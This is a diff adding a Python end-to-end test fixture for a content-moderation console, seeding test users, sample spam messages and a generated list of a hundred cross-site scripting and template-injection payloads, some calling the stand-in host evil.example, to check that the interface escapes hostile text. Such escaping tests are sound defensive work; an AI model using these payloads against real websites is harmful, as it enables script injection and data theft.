@@ -1,0 +1,101 @@
+"""Fills a running installation for the browser tests: people with passwords, cases, hostile texts. Run as a program; prints JSON.
+
+``python -m tests.e2e.fill_floor`` with ``WATCHFLOOR_HOME`` set to the server's data folder.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+from datetime import timedelta
+from typing import Any
+
+PASSWORD = "a-long-word-for-tests-7"  # noqa: S105 - of a throw-away installation
+QUEUE = "spam.en"
+TEXTS = [
+    "Congratulations! You have been selected. Send this to ten friends and claim your prize at http://prize.example before midnight.",
+    "Lunch on Thursday? The place by the river has the good soup again.",
+    "Cheap watches, cheap watches, CHEAP WATCHES. Reply STOP and we send twice as many.",
+    "Meet me \u202egnp.exe\u202c at the usual place\u200b, bring the docu\u00adments.",
+    "FREE crypto for the first 100. Only today. Only here. t\u0435legram link in bio.",
+    "Your parcel could not be delivered. Pay 1.99 at parcel-fee.example to release it.",
+    "Photos of the school trip are up; ask Jo for the password.",
+    "You won. You won. You won. You won. You won.",
+    "Work from home and earn 900 a day, no questions asked, apply within.",
+    "Last chance: your account closes in 24 hours unless you confirm.",
+    "Happy birthday grandma! The cake recipe is attached.",
+    "Hot singles near you are waiting, click the link to see who.",
+]
+
+
+def hostile() -> list[str]:
+    """A hundred texts that would like to be programs."""
+    calls = ["alert(1)", "window.fired=1", "document.title='x'", "fetch('//evil.example')"]
+    shapes = [
+        "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "\"><script>{0}</script>", "'><img src=x onerror={0}>",
+        "</textarea><script>{0}</script>", "</script><script>{0}</script>", "<iframe srcdoc='<script>{0}</script>'>", "javascript:{0}",
+        "<a href=javascript:{0}>x</a>", "<details open ontoggle={0}>", "<body onload={0}>", "<input autofocus onfocus={0}>",
+        "<math><mtext></mtext><script>{0}</script></math>", "<style>@import '//evil.example'</style>{0}", "{{{{{0}}}}}", "${{{0}}}",
+        "{{% {0} %}}", "<video><source onerror={0}>", "<x x-data x-init={0}>", "<div hx-get=//evil.example hx-trigger=load>{0}</div>",
+        "<base href=//evil.example><script src=x>{0}</script>", "<form action=//evil.example><button>{0}", "<!--<img src=--><img src=x onerror={0}//>",
+        "<template><script>{0}</script></template>",
+    ]  # fmt: skip
+    return [shape.format(call) for shape in shapes for call in calls]
+
+
+def fill() -> dict[str, Any]:
+    """Make everything; returns what the tests need to know."""
+    from watchfloor.console import install
+    from watchfloor.identity import actions as identity
+    from watchfloor.identity.domain import system
+    from watchfloor.identity.models import User
+    from watchfloor.items import actions as items
+    from watchfloor.items.contracts import ItemSeen
+    from watchfloor.kernel import clock, ids
+    from watchfloor.ledger.writer import writing
+    from watchfloor.review import actions as review
+    from watchfloor.review.contracts import ReportIn, SignalIn
+
+    by = system("test")
+    people = {}
+    with writing(by, reason="browser tests") as w:
+        install.defaults(w)
+        for login, roles in (("rita", ["reviewer"]), ("sam", ["senior_reviewer"]), ("lea", ["escalation_lead"]), ("xena", ["reviewer"])):
+            email = f"{login}@example.org"
+            if not User.objects.filter(email=email).exists():
+                user = identity.create_user(w, email=email, name=login.title(), password=PASSWORD)
+                for role in roles:
+                    identity.grant(w, by, user, role, queues=["adult"] if login == "xena" else None)
+            people[login] = email
+    cases = []
+    for number, text in enumerate([*TEXTS, *hostile()]):
+        is_hostile = number >= len(TEXTS)
+        with writing(by) as w:
+            seen_at = clock.now() - timedelta(hours=2)
+            author = f"u-{number % 5}"
+            items.see(w, ItemSeen(type="account", id=author, seen_at=seen_at, language="en", market="US", data={
+                "display_name": f"Person {number % 5}" if not is_hostile else text, "handle": f"@person{number % 5}",
+                "created_at": "2024-03-09T10:00:00Z", "followers": 4200 * (number % 5), "verified": number % 5 == 1}))  # fmt: skip
+            item, version = items.see(w, ItemSeen(type="message", id=f"m-{number}", author_type="account", author_id=author,
+                seen_at=seen_at, market="US", language="en",
+                data={"author_id": author, "created_at": "2026-05-01T10:00:00Z", "subject": text[:60] if is_hostile else "", "text": text,
+                      "thread_id": f"t-{number % 3}", "client_app": "web 4.1", "links": ["http://prize.example/?a=1"]}))  # fmt: skip
+            for each in range(1 + number % 4):
+                case = review.receive_report(w, ReportIn(
+                    id=ids.new_id(), item=item.pk, item_version=version, source="platform", channel="user", reporter_kind="user",
+                    reason_key="hate-speech" if is_hostile else "spam", received_at=clock.now() - timedelta(minutes=20 + each), reporter=f"r-{number}-{each}",
+                    note=text if is_hostile else ["", "this again", "third time this week", "please stop them"][each], market="US",
+                    language="en", reach=1200 * number))  # fmt: skip
+            if not is_hostile and number % 2 == 0:
+                review.receive_signals(w, item.pk, version, [SignalIn(source="model:spam", policy_key="spam", score=0.93,
+                    reason="Weighed most: prize, claim, cheap", details={"words": ["prize", "claim", "cheap", "won", "free"]})],
+                    open_case=False)  # fmt: skip
+        cases.append(ids.encode("case", case.pk))
+    return {"people": people, "password": PASSWORD, "cases": cases[: len(TEXTS)], "hostile": cases[len(TEXTS) :]}
+
+
+if __name__ == "__main__":
+    from watchfloor.cli import prepare
+
+    prepare.django()
+    sys.stdout.write(json.dumps(fill()))
